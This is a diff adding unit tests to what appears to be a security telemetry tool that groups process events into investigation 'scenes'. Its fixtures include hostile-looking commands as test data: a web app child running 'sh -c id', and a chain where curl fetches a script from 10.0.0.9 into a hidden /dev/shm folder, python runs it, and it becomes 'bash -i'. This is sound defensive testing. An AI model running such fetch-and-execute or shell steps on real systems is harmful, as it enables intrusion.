@@ -162,3 +162,41 @@ def test_pooling_ranks_inside_each_bag() -> None:
     assert found[0].tolist() == pytest.approx([5, 2, np.log1p(2)])
     assert found[1].tolist() == pytest.approx([3, 1 / 3, np.log1p(3)])
     assert found[2, 0] == -20
+
+
+def _linux(uid: str, parent: str, image: str, command: str, at: int) -> Row:
+    return launch(uid, parent, image, command, at) | {"device.os": "linux"}
+
+
+def test_each_job_of_cron_is_a_scene_with_its_own_login() -> None:
+    cron = "/usr/sbin/cron"
+    rows: list[Row] = []
+    for n in range(3):
+        rows.append(did("logon.success", f"fork{n}", cron, n, actor__process__parent_process__uid="ws-1/9@?"))
+        rows.append(_linux(f"job{n}", f"fork{n} {cron}", "/usr/bin/dash", "/bin/sh -c job", n + 1))
+    reel = _film(*rows)
+    assert _together(reel, "fork0", "job0")
+    assert not _together(reel, "job0", "job1")
+
+
+def test_each_connection_to_a_server_from_before_is_a_scene() -> None:
+    app = "/usr/bin/python3.11"
+    rows: list[Row] = []
+    for n in range(2):
+        served = did("file.read", f"fork{n}", app, n, file__path="/x", actor__process__parent_process__uid="ws-1/7@?")
+        rows.append(served | {"actor.process.cmd_line": "python3 /srv/app.py"})
+        rows.append(_linux(f"kid{n}", f"fork{n} {app}", "/usr/bin/dash", "sh -c id", n + 1))
+    rows.append(did("network.listen", "ws-1/7@?", app, 0) | {"actor.process.cmd_line": "python3 /srv/app.py"})
+    reel = _film(*rows)
+    assert _together(reel, "fork0", "kid0")
+    assert not _together(reel, "kid0", "kid1")
+
+
+def test_a_script_dropped_earlier_ties_even_a_process_that_has_become_another_program() -> None:
+    reel = _film(
+        _linux("get", "sh0 /usr/bin/bash", "/usr/bin/curl", "curl -o /dev/shm/.x/c.py http://10.0.0.9/c.py", 1),
+        did("file.create", "get", "/usr/bin/curl", 1, file__path="/dev/shm/.x/c.py"),
+        _linux("run", "init /sbin/init", "/usr/bin/python3.11", "python3 /dev/shm/.x/c.py 10.0.0.9", 2),
+        _linux("run", "init /sbin/init", "/usr/bin/bash", "bash -i", 3),
+    )
+    assert _together(reel, "get", "run")
